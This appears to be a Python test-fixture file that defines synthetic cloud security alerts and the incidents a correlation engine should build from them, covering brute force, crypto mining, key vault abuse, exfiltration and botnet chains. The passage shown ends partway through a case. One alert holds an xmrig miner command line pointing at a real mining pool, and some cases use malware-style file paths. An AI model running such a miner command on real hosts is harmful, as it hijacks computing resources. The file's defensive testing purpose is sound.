from framework import *

# People and identities of the Contoso tenant.
ALICE = ('alice.moreau', '3f9a1c2e-5b7d-4e8f-a0c1-2d3e4f5a6b7c')
BOB = ('bob.lindqvist', '8d2e4f6a-0b1c-4d3e-9f5a-7b8c9d0e1f2a')
CAROL = ('carol.nguyen', 'c41e7a93-2d5f-4b6e-8a0c-3e9f1d7b5a24')
DAVE = ('dave.okafor', '5e7a9c1b-3d4f-4a6b-b8c0-1e2f3a4b5c6d')
FRANK = ('frank.ibarra', '9a0b1c2d-3e4f-4a5b-8c6d-7e8f9a0b1c2d')
GRACE = ('grace.hopkins', '2b4d6f80-1a3c-4e5f-9b7d-0c2e4f6a8b1d')
HEIDI = ('heidi.schulz', '7c9e1a3b-5d7f-4b2c-a4e6-8f0a2c4e6b8d')
IVAN = ('ivan.petrov', 'e3f5a7b9-1c2d-4e6f-8a0b-2c4d6e8f0a1b')
JUDY = ('judy.tanaka', '0f1e2d3c-4b5a-4968-8776-a5b4c3d2e1f0')
MALLORY = ('mallory.west', '6a8c0e2f-4b6d-4f8a-9c1e-3f5a7c9e1b3d')
NIAJ = ('niaj.rahman', 'd5e6f7a8-9b0c-4d1e-a2f3-b4c5d6e7f8a9')
OSCAR = ('oscar.dupont', '1d3f5b7a-9c0e-4a2b-b4d6-f8a0c2e4b6d8')
PEGGY = ('peggy.carter', '4e6a8c0b-2d4f-4b6a-8c0e-2f4b6d8a0c2e')
SP_DEPLOY = ('sp-github-deploy', 'a7c9e1f3-5b7d-4f9a-b1c3-e5f7a9b1d3f5')
SP_BACKUP = ('sp-backup-automation', 'f2e4d6c8-0a1b-4c3d-9e5f-7a8b9c0d1e2f')


def U(p):
    return user(*p)


def S(p):
    return sp(*p)


# ---------------------------------------------------------------- kind 1
c = Case('k01-user-activity-two-plans',
         'one user named by a Resource Manager alert and a Storage alert within hours: suspicious '
         'user activity (kind 1); a third alert of a plan already present joins as a member')
t = '2025-03-03T08:12:41.5536120Z'
c.alert('arm1', 'export', 'ARM_AnomalousOperation.Persistence', t, subid(),
        [U(ALICE), ip('198.51.100.14', ('FR', 'Paris', 3215))], intent='Persistence',
        chk=dict(plan='ResourceManager', signals=['account'], stages=[2]))
c.alert('stor', 'export', 'Storage.Blob_ApplicationAnomaly', add_t(t, hours=2, minutes=7),
        stid('stcontosofinance'), [U(ALICE), blob_container('ledgers', stid('stcontosofinance'))],
        intent='Execution', severity='Medium',
        chk=dict(plan='Storage', signals=['account'], stages=[8]))
c.alert('arm2', 'export', 'ARM_AnomalousOperation.Collection', add_t(t, hours=5, minutes=31, seconds=9),
        subid(), [U(ALICE), ip('198.51.100.15', ('FR', 'Paris', 3215))], intent='Collection',
        chk=dict(plan='ResourceManager', signals=['account'], stages=[9]))
c.file_order('stor', 'arm1', 'arm2')
c.expect(1, 1, E('user', ALICE[1]), ['arm1', 'stor', 'arm2'], severity='High',
         scope=T_CONTOSO, plans=['ResourceManager', 'Storage'],
         tactics=['Collection', 'Execution', 'Persistence'],
         firstActivityTimeUtc=t, lastActivityTimeUtc=add_t(t, hours=5, minutes=31, seconds=9))

# ---------------------------------------------------------------- kind 2
c = Case('k02-service-principal-activity',
         'one service principal (AadUserId, no UPN suffix) named by a Resource Manager alert and a '
         'Cosmos DB alert: suspicious service principal activity (kind 2), Sentinel rows')
t = '2025-03-05T22:47:03.0981234Z'
c.alert('arm', 'sentinel', 'ARM_AnomalousServiceOperation.Persistence', t, subid(),
        [S(SP_DEPLOY), ip('20.61.88.14')], intent='Persistence',
        chk=dict(plan='ResourceManager', signals=['account'], stages=[2]))
c.alert('cosmos', 'sentinel', 'AzureCosmosDB_SuspiciousListKeys.SuspiciousPrincipal',
        add_t(t, minutes=46), cosmosid('cosmos-orders-prod'), [S(SP_DEPLOY), ip('20.61.88.15')],
        intent='CredentialAccess', chk=dict(plan='CosmosDB', signals=['account'], stages=[5]))
c.expect(2, 1, E('service_principal', SP_DEPLOY[1]), ['arm', 'cosmos'], severity='High',
         scope=T_CONTOSO, plans=['CosmosDB', 'ResourceManager'])

# ---------------------------------------------------------------- kind 3
c = Case('k03s1-crypto-mining-after-user-on-resource',
         'a Resource Manager operation by a user on a vm, then a crypto miner starts on it: '
         'crypto mining following account on the resource (kind 3 scenario 1); both alerts are '
         'Execution only, so no machine chain')
t = '2025-03-07T13:02:55.4410000Z'
vm = vmid('vm-build-07', 'rg-ci-weu', SUB_DEV)
h = host('vm-build-07', vm)
c.alert('arm', 'rest', 'ARM_AnomalousOperation.Execution', t, vm, [U(BOB), ip('192.0.2.61')],
        intent='Execution', chk=dict(plan='ResourceManager', signals=['account'], stages=[8]))
img = file('/tmp/.X25-unix/xmrig')
c.alert('miner', 'rest', 'VM_CryptoCoinMinerExecution', add_t(t, minutes=38, seconds=12), vm,
        [h, img, process('0x3b1f', '/tmp/.X25-unix/xmrig -o pool.supportxmr.com:443 --donate-level 1',
                         add_t(t, minutes=38), image=img, hostent=h)],
        intent='Execution', severity='High',
        chk=dict(plan='Servers', signals=['crypto_mining'], stages=[8]))
c.expect(3, 1, E('resource', key(vm)), ['arm', 'miner'], severity='High', scope=SUB_DEV,
         why={'rule': 'suspicious-crypto-mining-activity/1',
              'links': [{'alert': 'arm', 'role': 'rule', 'entity': E('resource', key(vm)), 'following': 'first'},
                        {'alert': 'miner', 'role': 'rule', 'entity': E('resource', key(vm)), 'following': 'then',
                         'after': 'arm'}]})

c = Case('k03s2-crypto-mining-after-brute-force-on-vm',
         'SSH brute force on a vm (Network) then a crypto miner on it (Servers): kind 3 scenario 2; '
         'the two alerts also climb the kill chain on one vm (PreAttack then Execution, 2 plans) '
         'so kind 21 is reported too (only kinds 1, 2, 7 are ever suppressed)')
t = '2025-03-09T02:14:08.1200000Z'
vm = vmid('vm-jump-02')
h = host('vm-jump-02', vm)
c.alert('bf', 'export', 'SSH_Incoming_BF_OneToOne', t, vm, [ip('203.0.113.57', ('NL', 'Amsterdam', 60781)), h],
        intent='PreAttack', chk=dict(plan='Network', signals=['brute_force'], stages=[0]))
img = file('/var/tmp/.cache/kdevtmpfsi')
c.alert('miner', 'export', 'VM_CryptoCoinMinerExecution', add_t(t, hours=3, minutes=2), vm,
        [h, img, process('0x5d2', '/var/tmp/.cache/kdevtmpfsi', add_t(t, hours=3, minutes=1), image=img, hostent=h)],
        intent='Execution', severity='High', chk=dict(plan='Servers', signals=['crypto_mining'], stages=[8]))
c.expect(3, 2, E('vm', key(vm)), ['bf', 'miner'], severity='High', scope=T_CONTOSO,
         plans=['Network', 'Servers'])
c.expect(21, 1, E('vm', key(vm)), ['bf', 'miner'], severity='High')

# ---------------------------------------------------------------- kind 4
c = Case('k04s1-key-vault-user',
         'a user lists secrets in a key vault and runs a risky Resource Manager operation: key vault '
         'activity shared by the user (kind 4 scenario 1); kind 1 on the same two alerts is '
         'suppressed as more generic')
t = '2025-03-11T17:30:00.2500000Z'
kv = kvid('kv-payments-prod')
c.alert('arm', 'sentinel', 'ARM_AnomalousOperation.CredentialAccess', t, subid(), [U(CAROL)],
        intent='CredentialAccess', chk=dict(plan='ResourceManager', signals=['account'], stages=[5]))
c.alert('kv', 'sentinel', 'KV_ListGetAnomaly', add_t(t, hours=1, minutes=4), kv,
        [U(CAROL), azres(kv)], intent='CredentialAccess',
        chk=dict(plan='KeyVault', signals=['account'], stages=[5]))
c.expect(4, 1, E('user', CAROL[1]), ['arm', 'kv'], severity='High', plans=['KeyVault', 'ResourceManager'],
         why={'links': [{'alert': 'arm'}, {'alert': 'kv', 'role': 'rule', 'requirement': 'plan KeyVault'}]})

c = Case('k04s1-key-vault-service-principal',
         'an application (service principal) reads a key vault unusually and runs a risky Resource '
         'Manager operation: kind 4 scenario 1 with a service principal entity; kind 2 suppressed')
t = '2025-03-12T03:41:19.7000000Z'
kv = kvid('kv-platform-shared')
c.alert('kv', 'export', 'KV_AppAnomaly', t, kv, [S(SP_BACKUP), azres(kv)], intent='CredentialAccess',
        chk=dict(plan='KeyVault', signals=['account'], stages=[5]))
c.alert('arm', 'export', 'ARM_AnomalousServiceOperation.CredentialAccess', add_t(t, hours=6), subid(),
        [S(SP_BACKUP)], intent='CredentialAccess',
        chk=dict(plan='ResourceManager', signals=['account'], stages=[5]))
c.expect(4, 1, E('service_principal', SP_BACKUP[1]), ['kv', 'arm'], severity='High')

c = Case('k04s2-key-vault-ip',
         'one client IP hammers a key vault and tries to steal credentials from an AI deployment: '
         'kind 4 scenario 2 on the IP')
t = '2025-03-13T11:05:44.6637175Z'
kv = kvid('kv-payments-prod')
c.alert('kv', 'rest', 'KV_OperationVolumeAnomaly', t, kv, [ip('198.51.100.23'), azres(kv)],
        intent='CredentialAccess', chk=dict(plan='KeyVault', signals=[], stages=[5]))
c.alert('ai', 'rest', 'AI.Azure_CredentialTheftAttempt', add_t(t, minutes=51, seconds=30), aiid('oai-contoso-support'),
        [ip('198.51.100.23'), azres(aiid('oai-contoso-support'))], intent=['CredentialAccess', 'LateralMovement', 'Exfiltration'],
        chk=dict(plan='AI', signals=[], stages=[5, 7, 11]))
c.file_order('ai', 'kv')
c.expect(4, 2, E('ip', '198.51.100.23'), ['kv', 'ai'], severity='High', scope=SUB_PROD,
         plans=['AI', 'KeyVault'], tactics=['CredentialAccess', 'Exfiltration', 'LateralMovement'])

c = Case('k04s3-key-vault-resource-mixed-case',
         'a key vault alert whose resource id is upper-case (/SUBSCRIPTIONS/.../RESOURCEGROUPS/...) '
         'and a Resource Manager vault-recovery alert on the same vault: kind 4 scenario 3, resource '
         'ids compared lower-cased')
t = '2025-03-14T09:09:09.9090000Z'
kv = kvid('kv-hr-records', 'RG-Secrets-WEU')
kv_upper = kv.replace('/subscriptions/', '/SUBSCRIPTIONS/').replace('/resourceGroups/', '/RESOURCEGROUPS/').replace('RG-Secrets-WEU', 'RG-SECRETS-WEU')
c.alert('kv', 'sentinel', 'KV_PutGetAnomaly', t, kv_upper, [U(DAVE), azres(kv_upper)],
        intent='CredentialAccess', chk=dict(plan='KeyVault', stages=[5]))
c.alert('arm', 'sentinel', 'Arm_Suspicious_Vault_Recovering', add_t(t, hours=2, minutes=20), kv,
        [ip('192.0.2.190')], intent='LateralMovement', severity='High',
        chk=dict(plan='ResourceManager', signals=[], stages=[7]))
c.expect(4, 3, E('resource', key(kv)), ['kv', 'arm'], severity='High')

# ---------------------------------------------------------------- kind 5
c = Case('k05-sas-then-other-plan',
         'an unusual SAS token access to a storage account, then a risky Resource Manager operation '
         'on that account: kind 5 (an alert of another plan following sas on the resource)')
t = '2025-03-16T19:22:10.1000000Z'
st = stid('stfinancearchive')
c.alert('sas', 'export', 'Storage.Blob_AccountSas.UnusualExternalAccess', t, st,
        [ip('203.0.113.77', ('BR', 'Sao Paulo', 28573)), blob_container('invoices-2024', st)],
        intent=['ResourceDevelopment', 'Exfiltration', 'Impact'],
        chk=dict(plan='Storage', signals=['sas'], stages=[0, 11, 12]))
c.alert('arm', 'export', 'ARM_AnomalousOperation.Impact', add_t(t, minutes=32), st,
        [U(PEGGY), ip('192.0.2.201')], intent='Impact',
        chk=dict(plan='ResourceManager', signals=['account'], stages=[12]))
c.expect(5, 1, E('resource', key(st)), ['sas', 'arm'], severity='High', plans=['ResourceManager', 'Storage'],
         why={'links': [{'alert': 'sas', 'role': 'rule', 'following': 'first'},
                        {'alert': 'arm', 'role': 'rule', 'following': 'then', 'after': 'sas'}]})

# ---------------------------------------------------------------- kind 6
c = Case('k06s1-geo-on-resource',
         'a Cosmos DB access from an unusual location and a risky Resource Manager operation on the '
         'same Cosmos DB account: kind 6 scenario 1 (REST)')
t = '2025-03-18T06:45:31.3330000Z'
cos = cosmosid('cosmos-loyalty-prod')
c.alert('geo', 'rest', 'CosmosDB_GeoAnomaly', t, cos, [ip('192.0.2.140', ('VN', 'Hanoi', 45899))],
        intent='InitialAccess', chk=dict(plan='CosmosDB', signals=['geo'], stages=[1]))
c.alert('arm', 'rest', 'ARM_AnomalousOperation.DefenseEvasion', add_t(t, hours=7, minutes=12), cos,
        [U(DAVE), ip('192.0.2.141')], intent='DefenseEvasion',
        chk=dict(plan='ResourceManager', signals=['account'], stages=[4]))
c.expect(6, 1, E('resource', key(cos)), ['geo', 'arm'], severity='High', scope=SUB_PROD,
         why={'links': [{'alert': 'geo', 'role': 'rule', 'requirement': 'signal geo'}, {'alert': 'arm'}]})

c = Case('k06s2-geo-on-ip',
         'the same foreign IP reaches a storage account and a Cosmos DB account from an unusual '
         'location: kind 6 scenario 2 on the IP (a JSON array of Sentinel rows)', fmt='array')
t = '2025-03-19T23:58:12.4852007Z'
c.alert('stor', 'sentinel', 'Storage.Blob_GeoAnomaly', t, stid('stcustomerexports'),
        [ip('203.0.113.199', ('KP', 'Pyongyang', 131279))], intent='InitialAccess', severity='Medium',
        chk=dict(plan='Storage', signals=['geo'], stages=[1]))
c.alert('cosmos', 'sentinel', 'CosmosDB_GeoAnomaly', add_t(t, minutes=14), cosmosid('cosmos-orders-prod'),
        [ip('203.0.113.199', ('KP', 'Pyongyang', 131279))], intent='InitialAccess',
        chk=dict(plan='CosmosDB', signals=['geo'], stages=[1]))
c.expect(6, 2, E('ip', '203.0.113.199'), ['stor', 'cosmos'], severity='High', scope=T_CONTOSO,
         firstActivityTimeUtc=t, lastActivityTimeUtc=add_t(t, minutes=14))

# ---------------------------------------------------------------- kind 7
c = Case('k07s1-suspicious-ip-v6',
         'a suspicious IPv6 address written two ways (2001:DB8:0:0:0:0:0:7A and 2001:db8::7a) '
         'reaches storage and Cosmos DB: kind 7 scenario 1, the IP in canonical form')
t = '2025-03-21T04:04:04.4040000Z'
c.alert('stor', 'rest', 'Storage.Blob_SuspiciousIp', t, stid('stmediaassets'),
        [ip('2001:DB8:0:0:0:0:0:7A')], intent='PreAttack', severity='Medium',
        chk=dict(plan='Storage', signals=['suspicious_ip'], stages=[0]))
c.alert('cosmos', 'rest', 'CosmosDB_SuspiciousIp', add_t(t, hours=9), cosmosid('cosmos-loyalty-prod'),
        [ip('2001:db8::7a')], intent='InitialAccess',
        chk=dict(plan='CosmosDB', signals=['suspicious_ip'], stages=[1]))
c.expect(7, 1, E('ip', '2001:db8::7a'), ['stor', 'cosmos'], severity='High')

c = Case('k07s2-suspicious-ip-user',
         'a user operates Resource Manager from a suspicious IP and explores a storage account: '
         'kind 7 scenario 2 on the user; kind 1 (same alerts) is suppressed by kind 7')
t = '2025-03-22T10:30:00.6683313Z'
c.alert('arm', 'export', 'ARM_OperationFromSuspiciousIP', t, subid(),
        [U(FRANK), ip('192.0.2.66', ('RU', 'Moscow', 8359))], intent='Execution',
        chk=dict(plan='ResourceManager', signals=['account', 'suspicious_ip'], stages=[8]))
c.alert('stor', 'export', 'Storage.Blob_DataExplorationAnomaly', add_t(t, hours=3, minutes=15),
        stid('stcontosofinance'), [U(FRANK)], intent='Execution', severity='Medium',
        chk=dict(plan='Storage', signals=['account'], stages=[8]))
c.expect(7, 2, E('user', FRANK[1]), ['arm', 'stor'], severity='High')

# ---------------------------------------------------------------- kind 8
c = Case('k08-fileless-after-exploit',
         'traffic from a blocked IP, a mail server exploit, then a fileless technique on the same '
         'Linux vm: kind 8 (fileless following exploit, both Servers; the Network alert is needed '
         'for the 2 plans, so it is a rule alert too) and, as the alerts climb PreAttack, '
         'Exploitation, Execution over 2 plans, kind 21')
t = '2025-03-24T14:00:02.5000000Z'
vm = vmid('vm-mail-03')
h = host('vm-mail-03', vm)
c.alert('net', 'sentinel', 'Network_TrafficFromUnrecommendedIP', t, vm, [ip('198.51.100.201'), h],
        intent='Probing', chk=dict(plan='Network', signals=[], stages=[0]))
c.alert('exploit', 'sentinel', 'VM_MailserverExploitation', add_t(t, minutes=55), vm, [h, ip('198.51.100.201')],
        intent='Exploitation', severity='High', chk=dict(plan='Servers', signals=['exploit'], stages=[1]))
c.alert('fileless', 'sentinel', 'VM_FilelessAttackTechnique.Linux', add_t(t, hours=1, minutes=18), vm,
        [h, process('0x7d0', '/usr/sbin/exim4 -bd -q30m', add_t(t, minutes=50), hostent=h)],
        intent='Execution', chk=dict(plan='Servers', signals=['fileless'], stages=[8]))
c.file_order('exploit', 'net', 'fileless')
c.expect(8, 1, E('vm', key(vm)), ['net', 'exploit', 'fileless'], severity='High',
         plans=['Network', 'Servers'],
         why={'links': [{'alert': 'net', 'role': 'rule'},
                        {'alert': 'exploit', 'role': 'rule', 'following': 'first'},
                        {'alert': 'fileless', 'role': 'rule', 'following': 'then', 'after': 'exploit'}]})
c.expect(21, 1, E('vm', key(vm)), ['net', 'exploit', 'fileless'], severity='High',
         why={'links': [{'alert': 'net', 'stage': 0}, {'alert': 'exploit', 'stage': 1},
                        {'alert': 'fileless', 'stage': 8}]})

# ---------------------------------------------------------------- kind 9
c = Case('k09-ddos-on-ip',
         'DDoS Protection reports an attack on a public IP and a DDoS toolkit is found on the vm '
         'behind it (same IP): kind 9 on the IP (a REST list)', fmt='restlist')
t = '2025-03-26T07:19:40.4363200Z'
pip = pipid('pip-web-frontend')
c.alert('ddos', 'rest', 'NETWORK_DDOS_DETECTED', t, pip, [ip('203.0.113.10'), azres(pip)],
        intent='Probing', chk=dict(plan='Network', signals=['ddos'], stages=[0]))
vm = vmid('vm-web-05')
c.alert('toolkit', 'rest', 'VM_KnownLinuxDDoSToolkit', add_t(t, hours=2, minutes=45), vm,
        [host('vm-web-05', vm), ip('203.0.113.10')], intent='Execution',
        chk=dict(plan='Servers', signals=['ddos'], stages=[8]))
c.expect(9, 1, E('ip', '203.0.113.10'), ['ddos', 'toolkit'], severity='High', scope=SUB_PROD)

# ---------------------------------------------------------------- kind 10
c = Case('k10s1-exfiltration-after-user-on-resource',
         'a user runs a data collection operation on a Cosmos DB account, then an unusual volume of '
         'data leaves it: kind 10 scenario 1 on the resource')
t = '2025-03-28T12:12:12.1212121Z'
cos = cosmosid('cosmos-crm-prod')
c.alert('arm', 'sentinel', 'ARM_AnomalousOperation.Collection', t, cos, [U(GRACE)], intent='Collection',
        chk=dict(plan='ResourceManager', signals=['account'], stages=[9]))
c.alert('exfil', 'sentinel', 'CosmosDB_DataExfiltrationAnomaly', add_t(t, hours=2, minutes=3), cos,
        [ip('203.0.113.45')], intent='Exfiltration', severity='High',
        chk=dict(plan='CosmosDB', signals=['exfiltration'], stages=[11]))
c.expect(10, 1, E('resource', key(cos)), ['arm', 'exfil'], severity='High')

c = Case('k10s2-exfiltration-after-user-on-ip',
         'a user operates from an IP, then data is extracted from Cosmos DB by the same IP: '
         'kind 10 scenario 2 on the IP')
t = '2025-03-30T01:10:00.6038724Z'
c.alert('arm', 'rest', 'ARM_AnomalousOperation.Collection', t, subid(), [U(HEIDI), ip('198.51.100.77')],
        intent='Collection', chk=dict(plan='ResourceManager', signals=['account'], stages=[9]))
c.alert('exfil', 'rest', 'CosmosDB_DataExfiltrationAnomaly', add_t(t, minutes=50), cosmosid('cosmos-orders-prod'),
        [ip('198.51.100.77')], intent='Exfiltration',
        chk=dict(plan='CosmosDB', signals=['exfiltration'], stages=[11]))
c.expect(10, 2, E('ip', '198.51.100.77'), ['arm', 'exfil'], severity='High')

c = Case('k10s3-exfiltration-after-password-reset',
         'an unusual password reset on a vm from an IP, then an unusual amount of data extracted '
         'from storage by the same IP: kind 10 scenario 3')
t = '2025-04-01T16:40:20.8037277Z'
vm = vmid('vm-db-04')
c.alert('reset', 'export', 'VM_VMAccessUnusualPasswordReset', t, vm, [host('vm-db-04', vm, os='Windows'), ip('192.0.2.88')],
        intent='CredentialAccess', chk=dict(plan='Servers', signals=['password_reset'], stages=[5]))
c.alert('exfil', 'export', 'Storage.Blob_DataExfiltration.AmountOfDataAnomaly', add_t(t, hours=4),
        stid('stbackupsweu'), [ip('192.0.2.88'), blob_container('sql-backups', stid('stbackupsweu'))],
        intent='Exfiltration', severity='High',
        chk=dict(plan='Storage', signals=['exfiltration'], stages=[11]))
c.expect(10, 3, E('ip', '192.0.2.88'), ['reset', 'exfil'], severity='High')

# ---------------------------------------------------------------- kind 11
c = Case('k11-api-two-alerts-same-plan',
         'parameter enumeration on one API and a traffic spike on another API of the same API '
         'Management service (child segments dropped): kind 11 needs 2 alerts, one plan is enough '
         '(az CLI flat JSON array)', fmt='array')
t = '2025-04-03T09:00:00.1586991Z'
c.alert('enum', 'azcli', 'API_ParameterEnumeration', t, apimid('apim-contoso-prod', 'orders-api'),
        [ip('203.0.113.88')], intent='InitialAccess', chk=dict(plan='APIs', signals=[], stages=[1]))
c.alert('spike', 'azcli', 'API_SpikeInAPITraffic', add_t(t, minutes=22), apimid('apim-contoso-prod', 'payments-api'),
        [ip('203.0.113.88')], intent='Impact', chk=dict(plan='APIs', signals=[], stages=[12]))
c.expect(11, 1, E('resource', key(apimid('apim-contoso-prod'))), ['enum', 'spike'], severity='High',
         plans=['APIs'], scope=SUB_PROD)

# ---------------------------------------------------------------- kind 12
c = Case('k12-kubernetes-after-user',
         'a user fetches cluster admin credentials, then a cluster-admin role binding is created on '
         'the same AKS cluster: kind 12 (Containers alert following a user)')
t = '2025-04-05T15:15:15.3952111Z'
aks = aksid('aks-prod-weu')
c.alert('arm', 'export', 'ARM_AnomalousOperation.CredentialAccess', t, aks, [U(IVAN), ip('192.0.2.33')],
        intent='CredentialAccess', chk=dict(plan='ResourceManager', signals=['account'], stages=[5]))
c.alert('k8s', 'export', 'K8S_ClusterAdminBinding', add_t(t, minutes=25), aks,
        [k8s_cluster(aks), {'Name': 'kube-system', 'Cluster': None, 'Type': 'K8s-namespace'}],
        intent='Persistence', chk=dict(plan='Containers', signals=[], stages=[2]))
c.alerts['k8s']['entities'][1]['Cluster'] = c.alerts['k8s']['entities'][0]
c.expect(12, 1, E('cluster', key(aks)), ['arm', 'k8s'], severity='High', plans=['Containers', 'ResourceManager'])

# ---------------------------------------------------------------- kind 13
c = Case('k13s1-storage-after-user-on-resource',
         'a service principal runs a data collection operation on a storage account, then a '
         'container is made public: kind 13 scenario 1 on the resource (account covers service '
         'principals)')
t = '2025-04-07T08:00:30.5042177Z'
st = stid('stmarketingassets')
c.alert('arm', 'sentinel', 'ARM_AnomalousServiceOperation.Collection', t, st, [S(SP_BACKUP)], intent='Collection',
        chk=dict(plan='ResourceManager', signals=['account'], stages=[9]))
c.alert('acl', 'sentinel', 'Storage.Blob_OpenACL', add_t(t, hours=3), st, [blob_container('campaign-drafts', st)],
        intent='Collection', chk=dict(plan='Storage', signals=[], stages=[9]))
c.expect(13, 1, E('resource', key(st)), ['arm', 'acl'], severity='High')

c = Case('k13s2-storage-after-user-on-ip',
         'a user operates Resource Manager from an IP, then the same IP reads a storage container '
         'anonymously: kind 13 scenario 2 on the IP')
t = '2025-04-09T21:05:00.6769494Z'
c.alert('arm', 'rest', 'ARM_AnomalousOperation.Execution', t, subid(), [U(MALLORY), ip('192.0.2.210')],
        intent='Execution', chk=dict(plan='ResourceManager', signals=['account'], stages=[8]))
c.alert('anon', 'rest', 'Storage.Blob_AnonymousAccessAnomaly', add_t(t, hours=1, minutes=1),
        stid('stpublicdownloads'), [ip('192.0.2.210')], intent='InitialAccess', severity='High',
        chk=dict(plan='Storage', signals=[], stages=[1]))
c.expect(13, 2, E('ip', '192.0.2.210'), ['arm', 'anon'], severity='High')

# ---------------------------------------------------------------- kind 14
c = Case('k14-azure-toolkit-then-other-plan',
         'MicroBurst extracts storage keys for a user, then the same user explores a storage '
         'account: kind 14; kind 1 on the same alerts is suppressed')
t = '2025-04-11T02:02:02.8998366Z'
c.alert('toolkit', 'sentinel', 'ARM_MicroBurst.AZStorageKeysREST', t, subid(), [U(NIAJ), ip('198.51.100.180')],
        intent='Collection', chk=dict(plan='ResourceManager', signals=['account', 'azure_toolkit'], stages=[9]))
c.alert('stor', 'sentinel', 'Storage.Blob_DataExplorationAnomaly', add_t(t, hours=2), stid('stcontosofinance'),
        [U(NIAJ)], intent='Execution', severity='High', chk=dict(plan='Storage', signals=['account'], stages=[8]))
c.expect(14, 1, E('user', NIAJ[1]), ['toolkit', 'stor'], severity='High',
         why={'links': [{'alert': 'toolkit', 'role': 'rule', 'following': 'first'},
                        {'alert': 'stor', 'role': 'rule', 'following': 'then', 'after': 'toolkit'}]})

# ---------------------------------------------------------------- kind 15
c = Case('k15s1-dns-on-resource',
         'a vm queries an algorithmically generated domain (DNS), later a suspicious download on the '
         'same vm (Servers, an earlier kill-chain stage so no machine chain): kind 15 scenario 1, '
         'always Medium')
t = '2025-04-13T10:20:30.0131385Z'
vm = vmid('vm-analytics-06')
h = host('vm-analytics-06', vm)
c.alert('dns', 'export', 'AzureDNS_DomainGenerationAlgorithm', t, vm,
        [h, dns('qxkzvbtrplm.info')], intent='Exfiltration',
        chk=dict(plan='DNS', signals=[], stages=[11]))
c.alert('dl', 'export', 'VM_SuspectDownloadArtifacts', add_t(t, hours=2), vm,
        [h, file('/tmp/.ICE-unix/payload.elf', sha256='9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08')],
        intent='Persistence', severity='High', chk=dict(plan='Servers', signals=[], stages=[2]))
c.expect(15, 1, E('resource', key(vm)), ['dns', 'dl'], severity='Medium')

c = Case('k15s2-dns-on-ip',
         'a vm talks to an anonymity network at an IP (the IP inside the dns entity) and the same IP '
         'fuzzes a Cosmos DB account: kind 15 scenario 2 on the IP, Medium')
t = '2025-04-15T18:18:18.4706922Z'
vm = vmid('vm-ops-01')
c.alert('dns', 'rest', 'AzureDNS_DarkWeb', t, vm,
        [host('vm-ops-01', vm), dns('relay7.torproject-mirror.example', [ip('203.0.113.130')])],
        intent='Exfiltration', chk=dict(plan='DNS', signals=[], stages=[11]))
c.alert('fuzz', 'rest', 'CosmosDB_SqlInjection.FailedFuzzingAttempt', add_t(t, hours=5), cosmosid('cosmos-crm-prod'),
        [ip('203.0.113.130')], intent='PreAttack', chk=dict(plan='CosmosDB', signals=[], stages=[0]))
c.expect(15, 2, E('ip', '203.0.113.130'), ['dns', 'fuzz'], severity='Medium')

# ---------------------------------------------------------------- kind 16
c = Case('k16s1-sql-on-ip-extended-property',
         'a SQL brute force whose client IP is only in ExtendedProperties ("Client IP address", '
         'JSON text in a Sentinel row) and a storage alert naming that IP: kind 16 scenario 1')
t = '2025-04-17T05:55:55.9265616Z'
c.alert('bf', 'sentinel', 'SQL.DB_BruteForce', t, sqlid('sql-contoso-prod', 'crm'), [],
        name='Suspected brute force attack', intent='PreAttack',
        ext={'Client IP address': '192.0.2.150', 'Client principal name': 'sa',
             'Client application': 'sqlcmd', 'Failed logins': '412'},
        chk=dict(plan='SQL', signals=['brute_force'], stages=[0]))
c.alert('stor', 'sentinel', 'Storage.Files_AccessInspectionAnomaly', add_t(t, hours=6), stid('stfileshareshr'),
        [ip('192.0.2.150')], intent='Discovery', severity='Medium',
        chk=dict(plan='Storage', signals=[], stages=[6]))
c.expect(16, 1, E('ip', '192.0.2.150'), ['bf', 'stor'], severity='High')

c = Case('k16s2-sql-on-resource',
         'a SQL injection on a database and a firewall-related Resource Manager operation on its '
         'server: kind 16 scenario 2 on the server (database child segment dropped)')
t = '2025-04-19T13:31:00.3612196Z'
c.alert('sqli', 'rest', 'SQL.DB_PotentialSqlInjection', t, sqlid('sql-hr-prod', 'payroll'), [ip('198.51.100.90')],
        intent='PreAttack', chk=dict(plan='SQL', signals=[], stages=[0]))
c.alert('arm', 'rest', 'ARM_AnomalousOperation.DefenseEvasion', add_t(t, hours=1), sqlid('sql-hr-prod'),
        [U(OSCAR), ip('192.0.2.91')], intent='DefenseEvasion',
        chk=dict(plan='ResourceManager', signals=['account'], stages=[4]))
c.expect(16, 2, E('resource', key(sqlid('sql-hr-prod'))), ['sqli', 'arm'], severity='High')

# ---------------------------------------------------------------- kind 17
c = Case('k17s1-app-service-on-resource',
         'a WordPress scanner hits a web app and a Resource Manager persistence operation touches '
         'the same app: kind 17 scenario 1')
t = '2025-04-21T11:11:11.7437964Z'
site = siteid('app-blog-prod')
c.alert('scan', 'export', 'AppServices_WpScanner', t, site, [ip('198.51.100.144')], intent='PreAttack',
        chk=dict(plan='AppService', signals=[], stages=[0]))
c.alert('arm', 'export', 'ARM_AnomalousOperation.Persistence', add_t(t, hours=8), site,
        [U(PEGGY), ip('192.0.2.145')], intent='Persistence',
        chk=dict(plan='ResourceManager', signals=['account'], stages=[2]))
c.expect(17, 1, E('resource', key(site)), ['scan', 'arm'], severity='High')

c = Case('k17s2-app-service-on-ip',
         'one IP fingerprints a web app and sends a suspicious user agent to an API: kind 17 '
         'scenario 2 on the IP, High although both alerts are Low/Medium')
t = '2025-04-23T20:00:00.3496556Z'
c.alert('fp', 'sentinel', 'AppServices_WebFingerprinting', t, siteid('app-shop-prod'), [ip('203.0.113.222')],
        intent='PreAttack', severity='Low', chk=dict(plan='AppService', signals=[], stages=[0]))
c.alert('ua', 'sentinel', 'API_AccessFromSuspiciousUserAgent', add_t(t, minutes=9), apimid('apim-contoso-prod', 'cart-api'),
        [ip('203.0.113.222')], intent='Execution', chk=dict(plan='APIs', signals=[], stages=[8]))
c.expect(17, 2, E('ip', '203.0.113.222'), ['fp', 'ua'], severity='High')

# ---------------------------------------------------------------- kinds 18-23
c = Case('k18-botnet-one-vm',
         'SSH brute force, successful login, bot behaviour and C2 traffic on one vm, climbing the '
         'kill chain over Network and Servers: kind 18; root is a built-in name, not a user')
t = '2025-04-25T03:03:03.1150502Z'
vm = vmid('vm-web-09')
h = host('vm-web-09', vm)
c.alert('bf', 'rest', 'SSH_Incoming_BF_OneToOne', t, vm, [ip('192.0.2.31', ('CN', 'Shenzhen', 4134)), h],
        intent='PreAttack', chk=dict(plan='Network', signals=['brute_force'], stages=[0]))
